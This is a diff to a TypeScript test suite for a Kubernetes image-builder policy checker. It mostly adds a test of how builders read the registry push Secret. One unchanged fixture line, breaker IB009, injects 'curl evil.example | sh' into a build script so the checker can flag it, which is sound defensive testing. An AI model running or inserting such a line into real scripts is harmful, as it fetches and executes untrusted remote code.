@@ -33,7 +33,7 @@ const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
   IB014: (ms) => { ms.push({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'registry-push' }, stringData: { password: 'x' } }); },
   IB019: (ms) => { ms.find((m) => m.kind === 'ClusterRole')!.rules[0].verbs.push('delete'); },
   IB020: (ms) => { ms.find((m) => m.kind === 'ClusterRoleBinding')!.roleRef.name = 'cluster-admin'; },
-  IB015: (ms) => { env(ms, 'REGISTRY_PASSWORD').valueFrom.secretKeyRef.name = 'another-secret'; },
+  IB015: (ms) => { builder(ms).containers[0].envFrom[0].secretRef.name = 'another-secret'; },
   IB016: (ms) => { registry(ms).spec.template.spec.containers[1].volumeMounts = []; },
   IB017: (ms) => { configMap(ms).data['config.yml'] += 'storage:\n  cache:\n    blobdescriptor: inmemory\n'; },
 };
@@ -93,6 +93,7 @@ const ENGINE_AGNOSTIC: Record<string, (ms: Manifest[]) => void> = {
   IB002: BREAKERS.IB002,
   IB004: BREAKERS.IB004,
   IB005: BREAKERS.IB005,
+  IB015: BREAKERS.IB015,
   IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap' && m.metadata.name === 'image-builder-buildkit-script')!.data['buildkit.sh'] += 'curl evil.example | sh\n'; },
 };
 
@@ -197,6 +198,25 @@ describe('policy', () => {
     const none = clone(synthDefault());
     builder(none).containers[0].env = builder(none).containers[0].env.filter((e: any) => !e.name.startsWith('IMAGE_'));
     expect(checkPolicy(none).map((v) => [v.rule, v.message])).toEqual([['IB004', 'IMAGE_1_NAME is not set: a builder names at least one image']]);
+  });
+
+  test('IB015: builders read the push Secret whole (envFrom), not optional, the one REGISTRY_PUSH_SECRET names; retention by secretKeyRef', () => {
+    const judged = (breaker: (ms: Manifest[]) => void) => {
+      const ms = clone(synthDefault());
+      breaker(ms);
+      return checkPolicy(ms).map((v) => [v.rule, v.path, v.message]);
+    };
+    expect(judged((ms) => { delete builder(ms).containers[0].envFrom; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom',
+      'the push Secret is not read whole (envFrom secretRef with prefix PUSH_SECRET_): the script reads PUSH_SECRET_username and PUSH_SECRET_password']]);
+    expect(judged((ms) => { builder(ms).containers[0].envFrom[0].prefix = 'REGISTRY_'; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom',
+      'the push Secret is not read whole (envFrom secretRef with prefix PUSH_SECRET_): the script reads PUSH_SECRET_username and PUSH_SECRET_password']]);
+    expect(judged((ms) => { builder(ms).containers[0].envFrom[0].secretRef.optional = true; })).toEqual([['IB015', 'spec.template.spec.containers[0].envFrom[0].secretRef.optional',
+      'the push Secret is optional: a builder without it would push anonymously and fail late']]);
+    expect(judged((ms) => { env(ms, 'REGISTRY_PUSH_SECRET').value = 'old-secret'; })).toEqual([['IB015', 'spec.template.spec.containers[0].env',
+      'REGISTRY_PUSH_SECRET is "old-secret", but the builder reads Secret "registry-push": its messages would name another Secret']]);
+    const retention = (ms: Manifest[]) => ms.find((m) => m.kind === 'CronJob')!.spec.jobTemplate.spec.template.spec.containers[0];
+    expect(judged((ms) => { retention(ms).env.find((e: any) => e.name === 'REGISTRY_PASSWORD').valueFrom.secretKeyRef.key = 'pass'; }).map((v) => v[2]))
+      .toEqual(['REGISTRY_PASSWORD is not read from key "password" of the push Secret']);
   });
 
   test('IB003 knows pinned forms', () => {
